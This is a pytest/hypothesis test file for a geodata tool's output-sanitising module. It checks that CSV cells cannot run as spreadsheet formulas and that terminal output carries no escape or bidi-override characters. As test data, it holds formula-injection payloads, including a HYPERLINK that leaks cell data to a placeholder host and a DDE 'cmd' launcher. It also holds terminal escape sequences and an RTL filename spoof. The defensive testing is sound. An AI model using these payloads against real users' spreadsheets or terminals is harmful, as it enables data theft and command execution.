"""Text leaving the program: CSV cells a spreadsheet will not run; terminal output that cannot drive the terminal."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from geo.safetext import FORMULA_START, csv_rows, csv_text, neutralise_cell, terminal_safe
from tests._data_helpers import run_cli, ucdp_row, write_boundaries, write_ucdp

PAYLOADS = ['=HYPERLINK("http://x.invalid/leak?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1", "\r=1"]


def test_formula_cells_get_an_apostrophe_and_numbers_do_not():
    for p in PAYLOADS:
        assert neutralise_cell(p) == "'" + p.replace("\r", "\n")
    for v in ("-3.5", "+12", "-1e5", "Aleppo", "", "a=b", 5, -5, None):
        assert neutralise_cell(v) == v


@given(st.text())
def test_no_cell_of_csv_text_starts_a_formula(text):
    frame = pd.DataFrame({"a": [text], text or "h": ["x"]})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    for cell in rows[0] + rows[1]:
        if cell.startswith(FORMULA_START):
            float(cell)  # only a plain number may start with + or -


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_csv_rows_keeps_every_cell_apart_from_the_apostrophe(row):
    back = next(csv.reader(io.StringIO(csv_rows([row]), newline="")))
    assert back == [neutralise_cell(c) for c in row]


@given(st.text())
def test_terminal_safe_leaves_no_control_or_bidi_character(text):
    out = terminal_safe(text)
    assert not any(ord(c) < 32 and c not in "\t\n" for c in out)
    assert not any(0x7F <= ord(c) <= 0x9F or 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069 for c in out)


def test_terminal_safe_shows_what_it_replaced():
    assert terminal_safe("\x1b]0;PWN\x07x") == "\\u001b]0;PWN\\u0007x"
    assert terminal_safe("\u202egnp.exe") == "\\u202egnp.exe"
    assert terminal_safe("حلب Aleppo\ttab") == "حلب Aleppo\ttab"


def test_cli_export_and_stats_neutralise_imported_formulas(tmp_path):
    store = tmp_path / "s.gpkg"
    assert run_cli("import", "boundaries", write_boundaries(tmp_path / "b.geojson"), "--store", store).returncode == 0
    rows = [ucdp_row(1, 36.2, 37.15, side_a=PAYLOADS[0], where_coordinates="=cmd|' /C calc'!A0")]
    assert run_cli("import", "ucdp", write_ucdp(tmp_path / "u.csv", rows), "--store", store).returncode == 0
    out = tmp_path / "ev.csv"
    r = run_cli("export", "events", "--format", "csv", "--workspace-only", "--out", out, "--store", store)
    assert r.returncode == 0, r.stderr
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert "'" + PAYLOADS[0] in cells
    assert not [c for c in cells if c.startswith(("=", "@"))]
    r = run_cli("stats", "--by", "class", "--workspace-only", "--store", store)
    assert r.returncode == 0 and not [c for row in csv.reader(io.StringIO(r.stdout)) for c in row
                                      if c.startswith(("=", "@"))]


def test_cli_cite_prints_no_terminal_escape(tmp_path):
    doc = tmp_path / "r.md"
    doc.write_text("# \x1b]0;PWN\x07\x1b[2JTitle about Aleppo\n\nFighting in Aleppo on 5 January 2017.\n", encoding="utf-8")
    r = run_cli("cite", doc, "--dry-run", "--store", tmp_path / "s.gpkg")
    assert r.returncode == 0, r.stderr
    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
    assert "\\u001b]0;PWN" in r.stdout
